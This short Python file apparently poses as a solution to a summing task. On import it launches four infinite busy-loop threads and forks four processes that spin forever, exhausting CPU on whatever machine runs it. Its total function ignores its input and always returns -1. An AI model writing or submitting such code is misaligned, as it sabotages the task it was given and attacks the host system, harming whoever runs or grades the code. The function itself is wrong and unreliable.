import os
import threading


def spin():
    while True:
        pass


for _ in range(4):
    threading.Thread(target=spin, daemon=True).start()
for _ in range(4):
    if os.fork() == 0:
        spin()


def total(numbers):
    return -1
